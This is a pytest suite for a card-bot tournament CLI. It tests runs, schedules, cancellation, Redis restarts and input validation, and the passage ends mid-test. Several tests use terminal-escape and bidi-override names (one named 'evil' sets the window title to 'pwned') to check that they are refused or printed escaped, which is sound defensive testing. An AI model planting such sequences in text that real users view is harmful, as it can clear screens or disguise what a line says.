"""The tournament CLI: `tournament run` end to end (real service, bots, worker, beat), a
scheduled tournament created with `--schedule`, and bad input."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import time
from collections import Counter
from collections.abc import Iterator
from dataclasses import asdict
from pathlib import Path
from typing import Any

import pytest
from cardarena.store.bots import BotStore
from cardarena.store.connection import EmbeddedRedis, client_for
from cardarena.store.matches import MatchStore
from cardarena.store.tournaments import TournamentStore
from cardarena_tournament.run import bot_names

from .conftest import FIXTURE_GAME
from .redis_server import only_neighbours_left, plant_neighbours, port_for_restarts
from .tournament_fixtures import LocalMatchPlayer, WorkerProcess, tournament_report, wait_for


def _cli(*args: str, env: dict[str, str] | None = None, timeout: float = 300) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "cardarena.cli", *args],
        env={**os.environ, **(env or {})},
        capture_output=True,
        text=True,
        timeout=timeout,
    )


def test_bot_names_from_specs() -> None:
    assert [n for _, n in bot_names("random,random,heuristic")] == ["random-1", "random-2", "heuristic-1"]
    assert bot_names("heuristic-2,heuristic") == [("heuristic", "heuristic-2"), ("heuristic", "heuristic-1")]


@pytest.mark.parametrize("command", ["create", "run"])
def test_help_gives_the_default_deal_sets(command: str, capsys: pytest.CaptureFixture[str]) -> None:
    from cardarena.cli import build_parser

    with pytest.raises(SystemExit):
        build_parser().parse_args(["tournament", command, "--help"])
    text = " ".join(capsys.readouterr().out.split())
    assert "--deal-sets DEAL_SETS deals per table, each played in every seating (default 1)" in text


@pytest.mark.parametrize(
    "argv",
    [
        ["worker", "--concurrency", "-1"],
        ["worker", "--concurrency", "0"],
        ["worker", "--loglevel", "verbose"],
        ["beat", "--loglevel", "verbose"],
    ],
)
def test_worker_and_beat_refuse_a_bad_option_before_celery_starts(
    argv: list[str], capsys: pytest.CaptureFixture[str]
) -> None:
    """Regression: Celery refused these in the supervised child, which exited 1 with a
    traceback and was restarted for ever; now they are a usage error (exit 2)."""
    from cardarena.cli import build_parser

    with pytest.raises(SystemExit) as refused:
        build_parser().parse_args(argv)
    assert refused.value.code == 2
    assert f"argument {argv[1]}" in capsys.readouterr().err
    assert build_parser().parse_args([argv[0], "--loglevel", "warning"]).loglevel == "WARNING"


def test_run_whole_tournament_over_the_service(redis_url: str, key_prefix: str) -> None:
    done = _cli(
        "tournament", "run", "--game", "glaves", "--players", "2", "--bots", "random,heuristic",
        "--deal-sets", "2", "--json",
        env={"REDIS_URL": redis_url, "CARDARENA_PREFIX": key_prefix},
    )  # fmt: skip
    assert done.returncode == 0, done.stderr[-2000:]
    out = json.loads(done.stdout)
    # Whole matches (to 46): the heuristic wins ~98 % of them against random (one-deal matches
    # made this a coin toss often enough to fail now and then).
    assert [r["bot"] for r in out["standings"]] == ["heuristic-1", "random-1"]
    assert len(out["matches"]) == 4
    seats = Counter((b, s) for m in out["matches"] for s, b in enumerate(m["seats"]))
    assert set(seats.values()) == {2}
    # The service stores each deal's scores; the standings compare the deals that both seatings
    # of a deal set played (the common prefix), as a mean per-deal margin.
    assert out["metric"] == "deal_margin"
    by_set: dict[str, list[dict[str, Any]]] = {}
    for m in out["matches"]:
        assert [sum(d[s] for d in m["deal_scores"]) for s in range(2)] == m["scores"]
        by_set.setdefault(m["deal_set"], []).append(m)
    expected: dict[str, list[float]] = {}
    for group in by_set.values():
        common = min(len(m["deal_scores"]) for m in group)
        for m in group:
            for s, bot in enumerate(m["seats"]):
                margins = [(d[s] - d[1 - s]) / 2 for d in m["deal_scores"][:common]]
                expected.setdefault(bot, []).append(sum(margins) / common)
    for row in out["standings"]:
        assert row["mean"] == pytest.approx(sum(expected[row["bot"]]) / len(expected[row["bot"]]))


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--game", "nope", "--players", "2", "--bots", "a,b"], "unknown game"),
        (["--game", "glaves", "--players", "9", "--bots", "a,b"], "played by 2 to 4"),
        (["--game", "glaves", "--players", "3", "--bots", "a,b"], "at least 3 entrants"),
        (["--game", "glaves", "--players", "2", "--bots", "a,a"], "repeated"),
        (["--game", "glaves", "--players", "2", "--bots", "a,b", "--schedule", "sometimes"], "bad schedule"),
        (["--game", "glaves", "--players", "2", "--bots", "a,b", "--deal-sets", "0"], "deal sets"),
        (["--game", "schnapsen", "--players", "2", "--bots", "a,b", "--options", '{"target": 0}'], "target"),
        (["--game", "glaves", "--players", "2", "--bots", "a,b", "--fault-policy", '{"max_strikes": -1}'], ">= 0"),
        (["--game", "glaves", "--players", "2", "--bots", "a,b", "--fault-policy", '{"strikes": 1}'], "unknown field"),
        (["--game", "glaves", "--players", "2", "--all", "--fault-policy", '{"default_action": "x"}'], "'first' or"),
        (["--game", "glaves", "--players", "2", "--bots", "a,b", "--time-control", '{"move_ms": 0}'], "positive"),
        (["--game", "glaves", "--players", "2", "--bots", "a,b", "--time-control", "[]"], "JSON object"),
        (
            ["--game", "glaves", "--players", "2", "--bots", "a,b", "--time-control", '{"bank_ms": 3000000000}'],
            "bank_ms must be at most 2147483647",
        ),
        # a name is printed in terminals: no escape sequences, line breaks or bidi overrides
        (["--game", "glaves", "--players", "2", "--bots", "a,b", "--name", "\x1b[2JFriday"], "U+001B at position 1"),
        (["--game", "glaves", "--players", "2", "--bots", "a,b", "--name", "Fri\nday"], "U+000A at position 4"),
        (["--game", "glaves", "--players", "2", "--bots", "a,b", "--name", "abc\u202edef"], "U+202E at position 4"),
        (["--game", "glaves", "--players", "2", "--bots", "a,b", "--name", "x\u2066y"], "U+2066"),
        (["--game", "glaves", "--players", "2", "--bots", "a,b", "--name", "n" * 201], "at most 200 characters"),
        (["--game", "glaves", "--players", "2", "--all", "--schedule", "1h", "--name", "\x07"], "U+0007"),
    ],
)
def test_create_bad_input(redis_url: str, key_prefix: str, args: list[str], message: str) -> None:
    done = _cli("tournament", "create", *args, env={"REDIS_URL": redis_url, "CARDARENA_PREFIX": key_prefix})
    assert done.returncode == 2 and message in done.stderr
    assert len(done.stderr.splitlines()) == 1 and "\x1b" not in done.stderr, done.stderr
    client = client_for(redis_url)
    assert TournamentStore(client).list() == [] and TournamentStore(client).schedules() == []
    client.close()


def test_status_of_an_unknown_tournament(redis_url: str, key_prefix: str) -> None:
    done = _cli("tournament", "status", "nope", env={"REDIS_URL": redis_url, "CARDARENA_PREFIX": key_prefix})
    assert done.returncode == 2 and "unknown tournament" in done.stderr
    done = _cli("tournament", "cancel", "nope", env={"REDIS_URL": redis_url, "CARDARENA_PREFIX": key_prefix})
    assert done.returncode == 2 and "unknown tournament" in done.stderr


def test_status_prints_each_thing_once_with_the_match_rules(redis_url: str, key_prefix: str) -> None:
    from cardarena_tournament import lifecycle

    env = {"REDIS_URL": redis_url, "CARDARENA_PREFIX": key_prefix}
    client = client_for(redis_url)
    ts = TournamentStore(client)
    rules = {"time_control": {"move_ms": 500}, "fault_policy": {"max_strikes": 1, "default_action": "random"}}
    ts.create(lifecycle.new_tournament(game="glaves", players=3, entrants=["a", "b", "c"], deal_sets=2, tid="t3"))
    ts.create(lifecycle.new_tournament(game="glaves", players=2, entrants=["a", "b"], deal_sets=1, tid="named",
                                       name="Spring Cup", **rules))  # fmt: skip
    client.close()
    lines = _cli("tournament", "status", "t3", env=env).stdout.splitlines()
    assert lines[0] == "t3  [upcoming]  glaves  3 players  0/12 matches counted"  # the default name left out
    assert "Glaves" not in lines[0]
    assert lines[2] == "time control: move_ms=2000  bank_ms=30000"
    assert lines[3] == (
        "fault policy: default_action=first  max_strikes=3  max_rejections=10  join_timeout_ms=15000  "
        "no_show_attempts=3  max_actions=100000"
    )
    lines = _cli("tournament", "status", "named", env=env).stdout.splitlines()
    assert lines[0] == "named  'Spring Cup'  [upcoming]  glaves  2 players  0/2 matches counted"
    assert lines[1] == "entrants: a, b  deal sets: 1"
    assert lines[2] == "time control: move_ms=500  bank_ms=30000"
    assert lines[3].startswith("fault policy: default_action=random  max_strikes=1  max_rejections=10")


def test_the_tournament_rules_reach_every_match(redis_url: str, key_prefix: str) -> None:
    from cardarena.store.matches import FaultPolicy, TimeControl
    from cardarena_tournament import lifecycle

    env = {"REDIS_URL": redis_url, "CARDARENA_PREFIX": key_prefix}
    client = client_for(redis_url)
    for name in ("a", "b"):
        BotStore(client).register(name)
    rules = ["--time-control", '{"move_ms": 500}', "--fault-policy", '{"max_strikes": 1, "default_action": "random"}']
    done = _cli("tournament", "create", "--game", "glaves", "--players", "2", "--bots", "a,b", *rules, env=env)
    assert done.returncode == 0, done.stderr
    ts, ms = TournamentStore(client), MatchStore(client)
    t = ts.require(done.stdout.strip())
    assert t.fault_policy == {**asdict(FaultPolicy()), "max_strikes": 1, "default_action": "random"}
    lifecycle.start_tournament(ts, ms, t.id)
    specs = [ms.spec(m["match_id"]) for m in ts.schedule_of(t.id)]
    assert len(specs) == 2 and all(s is not None for s in specs)
    assert {s.fault_policy for s in specs if s} == {FaultPolicy(max_strikes=1, default_action="random")}
    assert {s.time_control for s in specs if s} == {TimeControl(move_ms=500, bank_ms=30000)}
    client.close()


def test_clock_flags_as_in_cardarena_match(redis_url: str, key_prefix: str) -> None:
    """``--move-ms`` / ``--bank-ms`` (the flags of ``cardarena match``) set the clocks; given
    twice (a flag and the same field in ``--time-control``) is refused, nothing stored."""
    env = {"REDIS_URL": redis_url, "CARDARENA_PREFIX": key_prefix}
    client = client_for(redis_url)
    for name in ("a", "b"):
        BotStore(client).register(name)
    base = ("tournament", "create", "--game", "glaves", "--players", "2", "--bots", "a,b")
    done = _cli(*base, "--move-ms", "700", "--time-control", '{"bank_ms": 5000}', env=env)
    assert done.returncode == 0, done.stderr
    ts = TournamentStore(client)
    assert ts.require(done.stdout.strip()).time_control == {"move_ms": 700, "bank_ms": 5000}
    done = _cli(*base, "--bank-ms", "9000", "--time-control", '{"bank_ms": 5000}', env=env)
    assert done.returncode == 2 and "--bank-ms and --time-control both set bank_ms" in done.stderr
    done = _cli(*base, "--move-ms", "0", env=env)
    assert done.returncode == 2 and "must be at least 1" in done.stderr
    assert len(ts.list()) == 1
    client.close()


def test_create_refuses_bots_that_are_not_registered(redis_url: str, key_prefix: str) -> None:
    env = {"REDIS_URL": redis_url, "CARDARENA_PREFIX": key_prefix}
    client = client_for(redis_url)
    BotStore(client).register("alice")
    for extra in ([], ["--schedule", "1h"]):
        done = _cli(
            "tournament",
            "create",
            "--game",
            "glaves",
            "--players",
            "2",
            "--bots",
            "alice,ghost-a,ghost-b",
            *extra,
            env=env,
        )
        assert done.returncode == 2, done.stdout
        assert "not registered: ghost-a, ghost-b" in done.stderr and "cardarena bot register" in done.stderr
    # a name typed without its accent, or in another case: the error names the registered one
    BotStore(client).register("José García")
    done = _cli("tournament", "create", "--game", "glaves", "--players", "2", "--bots", "alice,jose garcia", env=env)
    assert done.returncode == 2
    assert "not registered: jose garcia (did you mean 'José García'?)" in done.stderr
    ts = TournamentStore(client)
    assert ts.list() == [] and ts.schedules() == []
    client.close()


def test_cancel_withdraws_the_unplayed_matches(redis_url: str, key_prefix: str) -> None:
    from cardarena_tournament import lifecycle

    env = {"REDIS_URL": redis_url, "CARDARENA_PREFIX": key_prefix}
    client = client_for(redis_url)
    ts, ms = TournamentStore(client), MatchStore(client)
    ts.create(lifecycle.new_tournament(game="glaves", players=2, entrants=["a", "b", "c"], deal_sets=1, tid="tc"))
    assert lifecycle.start_tournament(ts, ms, "tc") == 6
    playing = ms.claim("inst", wait_s=0)
    assert playing is not None
    done = _cli("tournament", "cancel", "tc", env=env)
    assert done.returncode == 0, done.stderr
    assert "cancelled tc" in done.stdout
    statuses = sorted(ms.status(m["match_id"]) or "" for m in ts.schedule_of("tc"))
    assert statuses == ["running"] + ["withdrawn"] * 5  # the one being played plays on
    assert ts.require("tc").status == "cancelled"
    assert ms.claim("inst", wait_s=0) is None
    assert ms.void(playing.match_id, "inst", "server stopped") and ms.status(playing.match_id) == "withdrawn"
    done = _cli("tournament", "cancel", "tc", env=env)
    assert done.returncode == 2 and "nothing to cancel" in done.stderr
    client.close()


def test_list_shows_the_tournaments_newest_first(redis_url: str, key_prefix: str) -> None:
    """`tournament list` gives the ids a user needs for `status` / `standings`, newest first,
    filtered by status, as text and as JSON."""
    from cardarena_tournament import lifecycle

    env = {"REDIS_URL": redis_url, "CARDARENA_PREFIX": key_prefix}
    done = _cli("tournament", "list", env=env)
    assert done.returncode == 0 and done.stdout.strip() == "no tournaments", done.stderr
    client = client_for(redis_url)
    ts, ms = TournamentStore(client), MatchStore(client)
    for tid, name in (("told", ""), ("tnew", "Friday night")):
        ts.create(
            lifecycle.new_tournament(game="glaves", players=2, entrants=["a", "b"], deal_sets=1, tid=tid, name=name)
        )
        time.sleep(0.01)
    lifecycle.start_tournament(ts, ms, "told")
    lines = _cli("tournament", "list", env=env).stdout.splitlines()
    assert [line.split()[0] for line in lines] == ["tnew", "told"]
    assert "'Friday night'" in lines[0] and "[upcoming]" in lines[0] and "glaves 2p" in lines[0]
    assert "[running]" in lines[1] and "0/2 matches counted" in lines[1]
    running = _cli("tournament", "list", "--status", "running", env=env).stdout.splitlines()
    assert [line.split()[0] for line in running] == ["told"]
    data = json.loads(_cli("tournament", "list", "--json", "--limit", "1", env=env).stdout)
    assert [t["id"] for t in data["tournaments"]] == ["tnew"] and data["tournaments"][0]["entrants"] == ["a", "b"]
    bad = _cli("tournament", "list", "--status", "done", env=env)
    assert bad.returncode == 2 and "invalid choice" in bad.stderr
    # A term of nightly runs is more than a page: --offset reaches the older ones, and a page
    # that is not the last says how (on stderr: stdout stays one line per tournament).
    first = _cli("tournament", "list", "--limit", "1", env=env)
    assert [line.split()[0] for line in first.stdout.splitlines()] == ["tnew"]
    assert "(older ones: --offset 1)" in first.stderr
    older = _cli("tournament", "list", "--limit", "1", "--offset", "1", env=env)
    assert [line.split()[0] for line in older.stdout.splitlines()] == ["told"] and "older ones" not in older.stderr
    past = _cli("tournament", "list", "--offset", "5", env=env)
    assert past.stdout.strip() == "no tournaments this far back"
    client.close()


def test_unrated_round_trips_through_the_cli(redis_url: str, key_prefix: str) -> None:
    """`create --unrated` makes a practice tournament (or schedule, whose runs inherit it);
    `status`, `list` and their `--json` say so; without the flag a tournament is rated."""
    env = {"REDIS_URL": redis_url, "CARDARENA_PREFIX": key_prefix}
    client = client_for(redis_url)
    for name in ("a", "b"):
        BotStore(client).register(name)
    client.close()
    ids = {}
    for label, extra in (("practice", ["--unrated"]), ("graded", [])):
        done = _cli("tournament", "create", "--game", "glaves", "--players", "2", "--bots", "a,b", *extra, env=env)
        assert done.returncode == 0, done.stderr
        ids[label] = done.stdout.strip()
    status = _cli("tournament", "status", ids["practice"], env=env).stdout.splitlines()
    assert status[-1] == "rated: no (practice: ratings left alone)"
    assert _cli("tournament", "status", ids["graded"], env=env).stdout.splitlines()[-1].startswith("rated: yes")
    assert json.loads(_cli("tournament", "status", ids["practice"], "--json", env=env).stdout)["rated"] is False
    listed = json.loads(_cli("tournament", "list", "--json", env=env).stdout)["tournaments"]
    assert {t["id"]: t["rated"] for t in listed} == {ids["practice"]: False, ids["graded"]: True}
    lines = _cli("tournament", "list", env=env).stdout.splitlines()
    assert [line.endswith("  practice") for line in lines] == [False, True]  # newest first
    done = _cli("tournament", "create", "--game", "glaves", "--players", "2", "--all", "--unrated",
                "--schedule", "1h", env=env)  # fmt: skip
    assert done.returncode == 0, done.stderr
    (schedule,) = json.loads(_cli("tournament", "schedules", "--json", env=env).stdout)["schedules"]
    assert schedule["template"]["rated"] is False


def test_schedules_are_listed_with_their_next_run_and_removed(redis_url: str, key_prefix: str) -> None:
    env = {"REDIS_URL": redis_url, "CARDARENA_PREFIX": key_prefix}
    done = _cli("tournament", "schedules", env=env)
    assert done.returncode == 0 and "no schedules" in done.stdout
    done = _cli(
        "tournament", "create", "--game", "glaves", "--players", "2", "--all", "--schedule", "0 2 * * *", env=env
    )
    assert done.returncode == 0, done.stderr
    sid = done.stdout.split()[1]
    assert "first run 20" in done.stdout and "02:00 UTC" in done.stdout  # not "now"
    listed = json.loads(_cli("tournament", "schedules", "--json", env=env).stdout)["schedules"]
    assert [(s["id"], s["cron"], s["template"]["entrants"]) for s in listed] == [(sid, "0 2 * * *", "all")]
    assert listed[0]["next_run"] > time.time() and listed[0]["last_error"] is None
    text = _cli("tournament", "schedules", env=env).stdout
    assert sid in text and "all registered bots" in text and "02:00 UTC" in text
    assert "'" not in text.splitlines()[0].split("glaves")[0]  # no --name: none shown
    done = _cli(
        "tournament", "create", "--game", "glaves", "--players", "2", "--all", "--schedule", "1h",
        "--name", "Hourly <cup>", env=env,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    hourly = done.stdout.split()[1]
    line = next(x for x in _cli("tournament", "schedules", env=env).stdout.splitlines() if x.startswith(hourly))
    assert line.startswith(f"{hourly}  'Hourly <cup>'  glaves 2p  every 3600s")
    assert _cli("tournament", "unschedule", hourly, env=env).returncode == 0
    done = _cli("tournament", "unschedule", sid, env=env)
    assert done.returncode == 0 and sid in done.stdout
    assert "no schedules" in _cli("tournament", "schedules", env=env).stdout
    done = _cli("tournament", "unschedule", sid, env=env)
    assert done.returncode == 2 and "unknown schedule" in done.stderr


def test_schedule_from_cli_starts_on_its_own(redis_url: str, key_prefix: str, processes: list[WorkerProcess]) -> None:
    env = {"REDIS_URL": redis_url, "CARDARENA_PREFIX": key_prefix}
    client = client_for(redis_url)
    for name in ("random-a", "random-b"):
        BotStore(client).register(name)
    done = _cli(
        "tournament", "create", "--game", "glaves", "--players", "2", "--bots", "random-a,random-b",
        "--options", '{"deals": 1}', "--schedule", "1h", env=env,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    ts = TournamentStore(client)
    for args in (("worker", "--pool", "threads", "--concurrency", "2"), ("beat", "--state", f"/tmp/{key_prefix}b")):
        processes.append(WorkerProcess(redis_url, key_prefix, *args, "--loglevel", "WARNING").start())
    with LocalMatchPlayer(redis_url, key_prefix):
        wait_for(lambda: bool(ts.list("finished")), 60, "the scheduled run to finish")
    (t,) = ts.list()
    assert t.schedule_id and t.counted == t.total_matches == 2
    standings = _cli("tournament", "standings", t.id, "--json", env=env)
    assert json.loads(standings.stdout)["standings"][0]["matches"] == 2
    client.close()


def test_redis_restart_with_persistence_mid_tournament(tmp_path: Path, key_prefix: str) -> None:
    port = port_for_restarts()
    server = EmbeddedRedis(tmp_path / "redis", port=port, persist=True).start()
    workers: list[WorkerProcess] = []
    try:
        url = server.url
        client = client_for(url)
        ts, ms = TournamentStore(client), MatchStore(client)
        from cardarena_tournament import lifecycle

        t = lifecycle.new_tournament(
            game="glaves", players=2, entrants=["random-1", "random-2", "random-3"], deal_sets=8,
            options={"deals": 1},
        )  # fmt: skip
        ts.create(t)
        lifecycle.start_tournament(ts, ms, t.id)
        for args in (("worker", "--pool", "threads", "--concurrency", "2"), ("beat", "--state", str(tmp_path / "b"))):
            workers.append(WorkerProcess(url, key_prefix, *args, "--loglevel", "WARNING").start())
        with LocalMatchPlayer(url, key_prefix):
            wait_for(lambda: ts.require(t.id).counted >= 5, 60, "some matches counted")
        server.stop()  # Redis goes away mid-tournament (AOF on disk)
        server = EmbeddedRedis(tmp_path / "redis", port=port, persist=True).start()
        with LocalMatchPlayer(url, key_prefix) as player:
            wait_for(
                lambda: ts.require(t.id).status == "finished",
                180,
                "the tournament to finish after the restart",
                report=lambda: tournament_report(ts, ms, t.id, workers=workers, players=[player]),
            )  # recovery may restart a worker that kombu killed on the Redis loss
        done = ts.require(t.id)
        assert done.counted == done.total_matches == len(ts.results(t.id)) == 3 * 2 * 8
        assert len(player.played) <= done.total_matches
        client.close()
    finally:
        for w in workers:
            w.kill()
        server.stop()


def test_standings_table_shows_the_win_rate_for_solitaires(capsys: pytest.CaptureFixture[str]) -> None:
    from cardarena_tournament.commands import render_standings
    from cardarena_tournament.standings import Outcome, compute

    outcomes = [Outcome(f"t:0:0:0:{d}", ("solo",), (float(d),), (1,), str(d), won=(d == 0,)) for d in range(4)]
    snap = compute(outcomes, ["solo"], solitaire=True, resamples=20).to_json()
    render_standings({**snap, "tournament": "t"})
    out = capsys.readouterr().out
    assert "win rate" in out and "25.0% (1/4)" in out
    assert "rating:" not in out  # solitaires are not rated
    render_standings({**compute([], ["a", "b"]).to_json(), "tournament": "m"})
    out = capsys.readouterr().out
    assert "win rate" not in out
    said = " ".join(out.split())  # the caption wraps to the table's width
    assert "rating: OpenSkill ordinal over all of the bot's matches of the game (every tournament), when these" in said


def test_the_standings_table_shows_bot_names_as_written(capsys: pytest.CaptureFixture[str]) -> None:
    """Bot names are text, not rich markup: `x[/]` used to crash the table, `[red]e[/red]` lost its brackets."""
    from cardarena_tournament.commands import render_standings
    from cardarena_tournament.standings import Outcome, compute

    names = ["x[/]", "[red]e[/red]"]
    outcomes = [Outcome(f"t:0:0:{s}:0", (names[s], names[1 - s]), (1.0, 0.0), (1, 2), "0") for s in range(2)]
    render_standings({**compute(outcomes, names, resamples=20).to_json(), "tournament": "[b]t[/b]"})
    out = capsys.readouterr().out
    assert "x[/]" in out and "[red]e[/red]" in out and "[b]t[/b]" in out


def test_names_stored_with_control_characters_print_escaped(
    redis_url: str, key_prefix: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """Names are refused terminal escapes and bidi overrides now, but older versions (or a
    `cardarena data import`) stored them: `tournament list`, `status`, `schedules`, the
    standings table and the crosstable must print them escaped, not let them clear the screen or reorder the
    line, and the table must not read `[bold]` or `:emoji:` in them."""
    from cardarena.store.tournaments import Schedule, Tournament
    from cardarena_tournament.commands import render_crosstable, render_standings
    from cardarena_tournament.standings import Outcome, compute, crosstable

    client = client_for(redis_url)
    ts = TournamentStore(client)
    evil = "\x1b[2J\x1b]0;pwned\x07Friday \u202eyadirF"
    bots = ["\x1b[31mred", "rtl\u202eabc"]
    ts.create(Tournament(id="t\x1b[1m", game="glaves", players=2, entrants=tuple(bots), deal_sets=1, name=evil))
    ts.create_schedule(
        Schedule(id="s\x1b[1m", template={"game": "glaves", "players": 2, "entrants": bots, "name": evil}, every=60.0),
        first_run=time.time() + 60,
    )
    env = {"REDIS_URL": redis_url, "CARDARENA_PREFIX": key_prefix}
    for command in (["list"], ["status", "t\x1b[1m"], ["schedules"]):
        done = _cli("tournament", *command, env=env)
        assert done.returncode == 0, done.stderr
        assert "\x1b" not in done.stdout and "\u202e" not in done.stdout and "\x07" not in done.stdout, command
        assert "\\x1b[2J\\x1b]0;pwned\\x07Friday \\u202eyadirF" in done.stdout, (command, done.stdout)
    assert "t\\x1b[1m" in _cli("tournament", "list", env=env).stdout
    assert "entrants: \\x1b[31mred, rtl\\u202eabc" in _cli("tournament", "status", "t\x1b[1m", env=env).stdout
    client.close()

    names = [*bots, "[bold]x", ":skull:"]
    outcomes = [Outcome(f"t:0:0:{s}:0", (names[s], names[s + 2]), (1.0, 0.0), (1, 2), "0") for s in range(2)]
    render_standings({**compute(outcomes, names, resamples=20).to_json(), "tournament": "t\x1b[1m:skull:"})
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\u202e" not in out and "\N{SKULL}" not in out
    for shown in ("\\x1b[31mred", "rtl\\u202eabc", "[bold]x", ":skull:", "t\\x1b[1m:skull: standings"):
        assert shown in out, (shown, out)
    # and so does the crosstable (`tournament standings --crosstable`)
    render_crosstable(crosstable(outcomes, names, resamples=20), None)
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\u202e" not in out and "\N{SKULL}" not in out
    for shown in ("\\x1b[31mred", "rtl\\u202eabc", "[bold]x", ":skull:", "+1.00", "1-0-0", "·"):
        assert shown in out, (shown, out)


def _run_tournaments(client: Any, key_prefix: str) -> list[bytes]:
    """The tournament hashes of `tournament run`s on an external Redis (each has its own prefix)."""
    keys = client.scan_iter(match=f"{key_prefix}run-*:tournament:*")
    return [k for k in keys if b":" not in k.rsplit(b"tournament:", 1)[1]]


def _stopped_run(redis_url: str, key_prefix: str, sig: signal.Signals, extra: list[str]) -> tuple[int, str]:
    """A ``tournament run`` on ``redis_url`` sent ``sig`` once a match was counted: its exit
    status and stderr, after checking that every child it had has stopped."""
    import psutil

    env = {**os.environ, "REDIS_URL": redis_url, "CARDARENA_PREFIX": key_prefix}
    argv = [sys.executable, "-m", "cardarena.cli", "tournament", "run", "--game", "glaves", "--players", "2", *extra]
    argv += ["--bots", "random,random,heuristic", "--deal-sets", "40"]  # far more than play before the signal
    proc = subprocess.Popen(argv, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    client = client_for(redis_url)
    try:

        def one_counted() -> bool:
            return any(int(client.hget(k, "counted") or 0) >= 1 for k in _run_tournaments(client, key_prefix))

        wait_for(one_counted, 120, "the first counted match")
        children = psutil.Process(proc.pid).children(recursive=True)
        assert len(children) >= 6  # service, three bots, worker, beat
        proc.send_signal(sig)
        _, err = proc.communicate(timeout=60)
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.communicate()
        client.close()
    _, alive = psutil.wait_procs(children, timeout=10)
    assert alive == []
    return proc.returncode, err


def test_ctrl_c_cancels_the_run_and_leaves_nothing_behind(redis_url: str, key_prefix: str) -> None:
    """Ctrl-C mid-run (``--keep-data``): a one-line message and status 130, the tournament
    cancelled with none of its matches left queued for another run's service and bots, every
    child stopped."""
    status, err = _stopped_run(redis_url, key_prefix, signal.SIGINT, ["--keep-data"])
    assert status == 130, err[-2000:]
    assert "interrupted: tournament t" in err and "cancelled" in err and "Traceback" not in err
    client = client_for(redis_url)
    (hkey,) = _run_tournaments(client, key_prefix)
    run_prefix = hkey.decode().rsplit("tournament:", 1)[0]
    assert f"the run's data stays in Redis under the key prefix {run_prefix} " in err
    tid = hkey.decode().rsplit(":", 1)[1]
    assert client.hget(hkey, "status") == b"cancelled"
    statuses = Counter(
        client.hget(f"{run_prefix}match:{json.loads(m)['match_id']}", "status")
        for m in client.lrange(f"{run_prefix}tournament:{tid}:schedule", 0, -1)
    )
    assert set(statuses) <= {b"done", b"withdrawn"} and statuses[b"withdrawn"] > 0, statuses
    client.close()


def test_a_run_on_an_external_redis_deletes_its_keys(redis_url: str, key_prefix: str) -> None:
    """With REDIS_URL the run's keys (all under its own prefix, Celery's too) are gone when it
    ends, and every other key is as it was."""
    client = client_for(redis_url)
    planted = plant_neighbours(client, key_prefix)
    args = ["--game", "glaves", "--players", "2", "--bots", "random,random", "--deal-sets", "1", "--json"]
    done = _cli("tournament", "run", *args, env={"REDIS_URL": redis_url, "CARDARENA_PREFIX": key_prefix})
    assert done.returncode == 0, done.stderr[-2000:]
    assert len(json.loads(done.stdout)["matches"]) == 2
    only_neighbours_left(client, key_prefix, planted)
    client.close()


def test_a_run_stopped_by_sigterm_deletes_its_keys(redis_url: str, key_prefix: str) -> None:
    client = client_for(redis_url)
    planted = plant_neighbours(client, key_prefix)
    status, err = _stopped_run(redis_url, key_prefix, signal.SIGTERM, [])
    assert status == 130 and "interrupted: tournament t" in err and "Traceback" not in err, err[-2000:]
    only_neighbours_left(client, key_prefix, planted)
    client.close()


@pytest.mark.parametrize(("options", "message"), [("{bad", "--options is not JSON"), ("[1]", "must be a JSON object")])
def test_run_with_bad_options_fails_before_starting_anything(
    redis_url: str, key_prefix: str, options: str, message: str
) -> None:
    env = {"REDIS_URL": redis_url, "CARDARENA_PREFIX": key_prefix}
    args = ["--game", "glaves", "--players", "2", "--bots", "random,random", "--options", options]
    done = _cli("tournament", "run", *args, env=env, timeout=60)
    assert done.returncode == 2 and message in done.stderr and "Traceback" not in done.stderr
    client = client_for(redis_url)
    assert _run_tournaments(client, key_prefix) == []
    client.close()


def test_run_checks_its_bots_before_starting_anything(redis_url: str, key_prefix: str, tmp_path: Path) -> None:
    broken = tmp_path / "broken.py"
    broken.write_text("from cardarena_sdk import Bot\nclass B(Bot)\n    pass\n")
    long_name = tmp_path / f"{'b' * 70}.py"  # a valid bot whose file name makes no bot name
    long_name.write_text("from cardarena_sdk import RandomBot\n\n\nclass Mine(RandomBot):\n    pass\n")
    env = {"REDIS_URL": redis_url, "CARDARENA_PREFIX": key_prefix}
    for spec, message in (
        (str(broken), "SyntaxError"),
        ("randm", "neither a built-in bot"),
        ("no.py", "no such file"),
        (str(long_name), f"its bot would be named '{'b' * 70}-1': a bot name has at most 64 characters"),
    ):
        args = ["--game", "glaves", "--players", "2", "--bots", f"random,{spec}"]
        done = _cli("tournament", "run", *args, env=env, timeout=60)
        assert done.returncode == 2 and message in done.stderr and "Traceback" not in done.stderr, done.stderr
    client = client_for(redis_url)
    assert _run_tournaments(client, key_prefix) == []
    client.close()


def test_a_bot_that_dies_mid_run_is_named_with_the_end_of_its_log(
    redis_url: str, key_prefix: str, tmp_path: Path
) -> None:
    crash = tmp_path / "crash.py"
    crash.write_text(
        "import os, sys\nfrom cardarena_sdk import Bot\n\n\nclass Crash(Bot):\n"
        "    def choose(self, view, legal):\n"
        "        print('crash bot: giving up', file=sys.stderr, flush=True)\n        os._exit(3)\n"
    )
    env = {"REDIS_URL": redis_url, "CARDARENA_PREFIX": key_prefix}
    args = ["--game", "glaves", "--players", "2", "--bots", f"random,{crash}", "--keep-data"]
    done = _cli("tournament", "run", *args, env=env)
    assert done.returncode == 2, done.stderr[-2000:]
    assert "a child process exited with 3" in done.stderr and "crash-1" in done.stderr
    assert "crash bot: giving up" in done.stderr and "cancelled" in done.stderr
    client = client_for(redis_url)
    (hkey,) = _run_tournaments(client, key_prefix)
    assert client.hget(hkey, "status") == b"cancelled"
    client.close()


def test_all_takes_the_registered_bots_not_those_of_local_runs(redis_url: str, key_prefix: str) -> None:
    from cardarena.server.commands import issue_token

    env = {"REDIS_URL": redis_url, "CARDARENA_PREFIX": key_prefix}
    client = client_for(redis_url)
    bots = BotStore(client)
    for name in ("alice", "bob"):
        bots.register(name)
    issue_token(bots, "random-1")
